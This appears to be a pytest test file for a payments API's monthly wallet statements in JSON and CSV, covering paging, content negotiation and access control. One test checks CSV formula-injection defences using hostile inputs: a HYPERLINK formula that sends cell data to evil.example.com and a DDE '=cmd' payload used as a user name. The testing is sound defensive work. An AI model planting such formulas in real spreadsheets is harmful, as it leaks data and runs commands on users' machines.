"""Statements through HTTP: JSON and CSV of the same month, parts, what a spreadsheet must not run, and who may see them."""

import csv
import io
import secrets
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.support.api import Api, Person
from tests.support.books import Party, check_books
from tests.support.contract import CheckedApi, refused
from tests.support.owner import Owner
from tests.support.past import MILLISECOND, Past, next_month, text
from tests.support.platform import Database, Platform

CSV = {"Accept": "text/csv"}
MAY = datetime(2025, 5, 1, tzinfo=UTC)
JUNE = next_month(MAY)
FACE = "\U0001f600"
PART = 1000  # lines of an answer, at most
NUMBERS = ("version", "available_change", "locked_change", "available_after", "locked_after")


@pytest.fixture(scope="module")
def api(platform: Platform) -> Iterator[CheckedApi]:
    """A client that checks every reply of JSON."""
    client = CheckedApi(platform.endpoints)
    yield client
    client.close()


@pytest.fixture(scope="module")
def owner(database: Database) -> Iterator[Owner]:
    """The database's owner; the books must add up after all of this."""
    with Owner(database.url) as owner:
        yield owner
    assert check_books(database.url) == []


def party(person: Person) -> Party:
    return Party(uuid.UUID(person.id), uuid.UUID(int=0), person.handle)


def act(api: Api, person: Person, path: str, **body: object) -> dict[str, Any]:
    """A POST under a fresh key; recorded refusals are answers too."""
    answer = api.call("POST", path, json=body, token=person.token, key=f"key-{secrets.token_hex(12)}")
    assert answer.status_code in (201, 200, 422), answer.text
    found: dict[str, Any] = answer.json()
    return found


def pay(api: Api, payer: Person, payee: Person, amount: int, **more: object) -> dict[str, Any]:
    return act(api, payer, "/v1/transfers", to=f"@{payee.handle}", amount=amount, currency="INR", **more)


def statement(api: Api, person: Person, month: datetime, query: str = "") -> dict[str, Any]:
    answer = api.call("GET", f"/v1/wallets/INR/statements/{month:%Y-%m}{query}", token=person.token)
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    return found


def as_csv(api: Api, person: Person, month: datetime, query: str = "", accept: str = "text/csv") -> httpx.Response:
    """The same as CSV, with the headers that every reply has; past the checker, which knows JSON."""
    path = f"/v1/wallets/INR/statements/{month:%Y-%m}{query}"
    answer = Api.call(api, "GET", path, token=person.token, headers={"Accept": accept})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-request-id"]
    assert answer.headers["content-disposition"] == f'attachment; filename="okane-INR-{month:%Y-%m}.csv"'
    return answer


def rows(content: bytes) -> list[dict[str, str]]:
    """Parse as RFC 4180 has it: CRLF at every end, as many fields in every record."""
    assert content.endswith(b"\r\n")
    assert b"\n" not in content.replace(b"\r\n", b"")
    header, *records = csv.reader(io.StringIO(content.decode("utf-8"), newline=""), strict=True)
    assert all(len(record) == len(header) for record in records)
    assert len(set(header)) == len(header)
    return [dict(zip(header, record, strict=True)) for record in records]


def said(content: bytes) -> dict[str, Any]:
    """What a CSV statement says, in the shape of JSON."""
    opening, *lines, closing = rows(content)
    assert [row["row"] for row in (opening, *lines, closing)] == ["opening", *["line"] * len(lines), "closing"]
    return {
        "currency": {row["currency"] for row in (opening, *lines, closing)},
        "opening": balance(opening),
        "lines": [line(row) for row in lines],
        "closing": balance(closing),
    }


def balance(row: dict[str, str]) -> dict[str, int]:
    named = ("row", "version", "currency", "available_after", "locked_after")
    assert not any(value for name, value in row.items() if name not in named)
    available, locked = int(row["available_after"]), int(row["locked_after"])
    return {"available": available, "locked": locked, "total": available + locked, "version": int(row["version"])}


def line(row: dict[str, str]) -> dict[str, Any]:
    bank, handle, name = (row[f"counterparty_{part}"] for part in ("bank", "handle", "name"))
    other = {"bank": bank} if bank else {"handle": handle, "name": name}
    plain = {name: row[name] for name in ("at", "transaction_id", "kind", "direction", "stage", "status")}
    numbers = {name: int(row[name]) for name in NUMBERS}
    return {**plain, **numbers, "counterparty": other, "note": row["note"] or None}


@pytest.fixture(scope="module")
def busy(api: CheckedApi, owner: Owner) -> tuple[Person, Person]:
    """Two people with everything that can happen to money; each past.at() says when what stands above it has happened.

    The second has a receiving wallet.
    """
    past = Past(owner)
    asha, ravi = api.sign_up("Asha Kumar"), api.sign_up("Ravi")
    owner.switch(ravi.handle, receiving=True)
    past.at(MAY - timedelta(days=20))
    api.deposit(asha, 100_000)
    past.at(MAY - MILLISECOND)
    paid = pay(api, asha, ravi, 700, note='rent, "May"; ₹ and \u0939\u093f\u0928\u094d\u0926\u0940 ' + FACE)
    past.at(MAY)
    hold = pay(api, asha, ravi, 900, capture="manual", expires_in=600)
    lost = pay(api, asha, ravi, 300, capture="manual", expires_in=600)
    past.at(MAY + timedelta(days=3))
    withdrawal = act(api, asha, "/v1/wallets/INR/withdrawals", amount=5000, bank="axis", account="00123456789")
    declined = act(api, asha, "/v1/wallets/INR/withdrawals", amount=50, bank="axis", account="00123456789")
    pay(api, asha, ravi, 10**9)
    past.at(MAY + timedelta(days=9))
    api.pay(withdrawal["payment_url"])
    api.pay(declined["payment_url"], "decline")
    past.at(JUNE - MILLISECOND)
    act(api, ravi, f"/v1/transfers/{hold['id']}/capture", amount=400)
    act(api, ravi, f"/v1/transfers/{lost['id']}/void")
    act(api, ravi, f"/v1/transfers/{paid['id']}/refunds", amount=123, note="too much")
    past.at(JUNE)
    pay(api, asha, ravi, 1)
    past.at(JUNE + timedelta(days=1))
    past.settle()
    return asha, ravi


def test_every_kind_of_line_adds_up(api: CheckedApi, busy: tuple[Person, Person]) -> None:
    asha, ravi = busy
    april, may, june = (statement(api, asha, month) for month in (MAY - MILLISECOND, MAY, JUNE))
    zero = {"available": 0, "locked": 0, "total": 0, "version": 0}
    assert (april["opening"], [one["status"] for one in april["lines"]]) == (zero, ["Processing", "Success"])
    assert april["closing"] == may["opening"] == {**zero, "available": 100_000, "total": 100_000, "version": 2}
    assert may["closing"] == june["opening"] == {"available": 93_100, "locked": 1200, "total": 94_300, "version": 10}
    assert may | {"lines": []} == {
        "currency": "INR", "month": "2025-05", "from": text(MAY), "to": text(JUNE), "final": True, "lines": [],
        "opening": april["closing"], "closing": june["opening"], "has_more": False, "next_cursor": None,
    }  # fmt: skip
    assert [
        (*(one[name] for name in ("kind", "direction", "stage", "status", "available_change", "locked_change")),)
        for one in (*may["lines"], *june["lines"])
    ] == [
        ("transfer", "out", "opening", "Success", -700, 0),
        ("transfer", "out", "opening", "Processing", -900, 900),
        ("transfer", "out", "opening", "Processing", -300, 300),
        ("withdrawal", "out", "opening", "Processing", -5000, 5000),
        ("withdrawal", "out", "opening", "Processing", -50, 50),
        ("transfer", "out", "opening", "Failure", 0, 0),
        ("withdrawal", "out", "closing", "Success", 0, -5000),
        ("withdrawal", "out", "closing", "Failure", 50, -50),
        ("transfer", "out", "closing", "Success", 500, -900),
        ("transfer", "out", "closing", "Failure", 300, -300),
        ("refund", "in", "opening", "Success", 123, 0),
        ("transfer", "out", "opening", "Success", -1, 0),
    ]
    assert june["closing"] == {**zero, "available": 94_022, "total": 94_022, "version": 14}
    now = api.call("GET", "/v1/wallets/INR", token=asha.token).json()
    assert june["closing"] == {name: now[name] for name in zero}
    received = statement(api, ravi, MAY)
    changes = [(one["direction"], one["status"], one["available_change"]) for one in received["lines"]]
    assert changes == [("in", "Success", 700), ("in", "Processing", 0), ("in", "Processing", 0)]
    assert received["closing"]["available"] == 700
    assert statement(api, ravi, JUNE)["closing"]["available"] == 700 + 400 - 123 + 1


def test_csv_says_what_json_says(api: CheckedApi, busy: tuple[Person, Person]) -> None:
    for person in busy:
        for month in (MAY - timedelta(days=60), MAY - MILLISECOND, MAY, JUNE):
            whole = statement(api, person, month)
            answer = as_csv(api, person, month)
            assert "okane-next-cursor" not in answer.headers
            found = said(answer.content)
            assert found.pop("currency") == {"INR"}
            assert found == {name: whole[name] for name in found}
    assert FACE in said(as_csv(api, busy[0], MAY).content)["lines"][0]["note"]


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        ("text/csv", "text/csv"),
        ("TEXT/CSV; charset=utf-8", "text/csv"),
        ("text/*", "text/csv"),
        ("text/csv, */*;q=0.1", "text/csv"),
        ("text/csv, */*", "text/csv"),
        ("application/json;q=0.4,text/csv;q=0.5", "text/csv"),
        ("application/json;q=0, */*", "text/csv"),
        ("text/csv;q=0.5, application/json", "application/json"),
        ("text/csv, application/json", "application/json"),
        ("text/*, application/json", "application/json"),
        ("text/csv;q=0", "application/json"),
        ("text/csv;q=2", "application/json"),
        ("text/csv;q=x, text/html", "application/json"),
        ("text/csv2", "application/json"),
        ("*/*", "application/json"),
        ("text/html", "application/json"),
        (",;,q=", "application/json"),
        ("", "application/json"),
    ],
)
def test_the_header_accept_chooses(api: CheckedApi, busy: tuple[Person, Person], accept: str, expected: str) -> None:
    path = f"/v1/wallets/INR/statements/{MAY:%Y-%m}"
    answer = Api.call(api, "GET", path, token=busy[0].token, headers={"Accept": accept})
    assert (answer.status_code, answer.headers["content-type"].partition(";")[0]) == (200, expected)


def test_both_forms_are_documented(api: CheckedApi) -> None:
    operation = api.contract.document["paths"]["/v1/wallets/{currency}/statements/{month}"]["get"]
    assert set(operation["responses"]["200"]["content"]) == {"application/json", "text/csv"}
    assert operation["responses"]["200"]["content"]["text/csv"]["schema"] == {"type": "string"}
    exposed = api.call("GET", "/v1/health", headers={"Origin": "http://localhost:5173"})
    names = exposed.headers["access-control-expose-headers"].lower().split(",")
    assert {"okane-next-cursor", "content-disposition"} <= {name.strip() for name in names}


# A note, or a name, and how its cell must begin so that no spreadsheet runs it.
NOTES = {
    "=1+1": "'=1+1",
    '=HYPERLINK("http://evil.example.com?"&A1,"x")': "'=HYPERLINK",
    "+49 151 000": "'+49",
    "-5": "'-5",
    "@SUM(A1)": "'@SUM",
    " =1+1": "' =1+1",
    "\uff1d1+1": "'\uff1d1+1",
    "paid;=1+1": "paid;'=1+1",
    "it's - well - fine = 3 @ 4": "it's - well - fine = 3 @ 4",
    "'quoted'": "'quoted'",
    'a "b", c': 'a "b", c',
}


def test_a_spreadsheet_runs_nothing(api: CheckedApi, owner: Owner) -> None:
    past, asha = Past(owner), api.sign_up("Asha")
    mallory = api.sign_up("=cmd|' /C calc'!A0")
    api.deposit(mallory, 1000)
    past.at(MAY)
    for note in NOTES:
        pay(api, mallory, asha, 1, note=note)
    # What the API refuses in a note would do harm all the same.
    past.lines(party(mallory), party(asha), 1, MAY, MILLISECOND, "\t=1+1")
    past.lines(party(mallory), party(asha), 1, MAY, MILLISECOND, "\r=1+1")
    past.at(MAY)
    cells = {name: [row[name] for row in rows_of(api, asha)] for name in ("note", "counterparty_name")}
    expected = [*NOTES.values(), "'\t=1+1", "'\r=1+1"]
    assert len(cells["note"]) == len(expected)
    for cell, beginning in zip(cells["note"], expected, strict=True):
        assert cell.startswith(beginning), cell
    assert set(cells["counterparty_name"]) == {"'=cmd|' /C calc'!A0"}
    for row in csv.reader(io.StringIO(as_csv(api, asha, MAY).text, newline="")):
        for cell in row:
            assert cell[:1] not in tuple("=+@\t\r"), cell
            assert not cell.startswith("-") or cell[1:].isdigit(), cell
    assert [one["note"] for one in statement(api, asha, MAY)["lines"]][: len(NOTES)] == list(NOTES), (
        "JSON has it as it is"
    )
    past.settle()


def rows_of(api: Api, person: Person) -> list[dict[str, str]]:
    """The lines of May; where a note holds a CR, not in the words of RFC 4180."""
    records = csv.DictReader(io.StringIO(as_csv(api, person, MAY).text, newline=""))
    return [row for row in records if row["row"] == "line"]


@pytest.fixture(scope="module")
def long(api: CheckedApi, owner: Owner) -> Person:
    """Somebody with 2,300 lines in May, each as large as people can make it, and one in June."""
    past, asha, ravi = Past(owner), api.sign_up("Asha"), api.sign_up("Ravi")
    api.deposit(asha, 10_000)
    past.at(MAY - MILLISECOND)
    past.lines(party(asha), party(ravi), 2300, MAY, timedelta(minutes=15), FACE * 140)
    past.lines(party(asha), party(ravi), 1, JUNE, MILLISECOND)
    past.rewrite("UPDATE people SET name = %s WHERE id = %s", FACE * 80, ravi.id)
    past.settle()
    return asha


def test_a_long_month_comes_in_parts(api: CheckedApi, long: Person) -> None:
    part = statement(api, long, MAY)
    parts = [part]
    while part["has_more"]:
        part = statement(api, long, MAY, f"?cursor={part['next_cursor']}")
        assert part["opening"] == parts[-1]["closing"]
        parts.append(part)
    assert [len(part["lines"]) for part in parts] == [PART, PART, 300]
    assert [part["next_cursor"] is None for part in parts] == [False, False, True]
    for part in parts:
        change = sum(one["available_change"] for one in part["lines"])
        assert part["opening"]["available"] + change == part["closing"]["available"]
        assert part["opening"]["version"] + len(part["lines"]) == part["closing"]["version"]
    assert parts[-1]["closing"] == statement(api, long, JUNE)["opening"]

    answer = as_csv(api, long, MAY)
    found = [said(answer.content)]
    while cursor := answer.headers.get("okane-next-cursor"):
        answer = as_csv(api, long, MAY, f"?cursor={cursor}")
        found.append(said(answer.content))
    assert [one["lines"] for one in found] == [part["lines"] for part in parts]
    assert [one["closing"] for one in found] == [part["closing"] for part in parts]


def test_a_cursor_is_bound_to_its_owner_its_wallet_and_its_month(api: CheckedApi, long: Person) -> None:
    cursor = statement(api, long, MAY)["next_cursor"]
    history = api.call("GET", "/v1/wallets/INR/transactions?limit=1", token=long.token).json()["next_cursor"]
    other = api.sign_up("Ravi")
    api.call("POST", "/v1/wallets", json={"currency": "USD"}, token=long.token)
    for path, person in (
        (f"/v1/wallets/INR/statements/2025-06?cursor={cursor}", long),
        (f"/v1/wallets/INR/statements/2025-04?cursor={cursor}", long),
        (f"/v1/wallets/USD/statements/2025-05?cursor={cursor}", long),
        (f"/v1/wallets/INR/statements/2025-05?cursor={cursor}", other),
        (f"/v1/wallets/INR/statements/2025-05?cursor={history}", long),
        (f"/v1/wallets/INR/transactions?cursor={cursor}", long),
        ("/v1/wallets/INR/statements/2025-05?cursor=", long),
        (f"/v1/wallets/INR/statements/2025-05?cursor={cursor[:-4]}AAA=", long),
    ):
        refused(api.call("GET", path, token=person.token), 400, "cursor_invalid")


@pytest.mark.parametrize(
    "month",
    [
        "2025-13",
        "2025-00",
        "2025-1",
        "25-01",
        "0000-01",
        "2025-01-01",
        "2025-01 ",
        "2025",
        "now",
        "-025-01",
        "\uff12\uff1025-01",
    ],
)
def test_a_month_that_is_none_is_not_found(api: CheckedApi, busy: tuple[Person, Person], month: str) -> None:
    answer = api.call("GET", f"/v1/wallets/INR/statements/{quote(month)}", token=busy[0].token)
    refused(answer, 404, "not_found")


def test_the_running_month_and_those_to_come(api: CheckedApi, owner: Owner) -> None:
    person = api.sign_up("Asha")
    [(now,)] = owner.rows("SELECT clock_timestamp()")
    api.deposit(person, 500)
    running = statement(api, person, now)
    assert (running["final"], running["closing"]["available"], len(running["lines"])) == (False, 500, 2)
    for month in (next_month(now), datetime(9999, 12, 1)):  # noqa: DTZ001 - the last there is, which UTC cannot end
        answer = api.call("GET", f"/v1/wallets/INR/statements/{month:%Y-%m}", token=person.token)
        refused(answer, 404, "not_found")


def test_a_statement_is_its_owner_s(api: CheckedApi, busy: tuple[Person, Person]) -> None:
    path = f"/v1/wallets/INR/statements/{MAY:%Y-%m}"
    stranger = api.sign_up("Stranger")
    mine = api.call("GET", path, token=stranger.token).json()
    assert (mine["lines"], mine["closing"]["version"]) == ([], 0), "one's own, whoever else has one"
    for headers in ({}, CSV):
        refused(api.call("GET", path.replace("INR", "GBP"), token=busy[0].token, headers=headers), 404, "not_found")
        refused(api.call("GET", path.replace("INR", "inr"), token=busy[0].token, headers=headers), 404, "not_found")
        refused(api.call("GET", path, headers=headers), 401, "token_missing")
    assert api.call("POST", "/v1/auth/logout", token=stranger.token).status_code == 204
    refused(api.call("GET", path, token=stranger.token), 401, "session_ended")
    refused(api.call("GET", path, token=stranger.token, headers=CSV), 401, "session_ended")
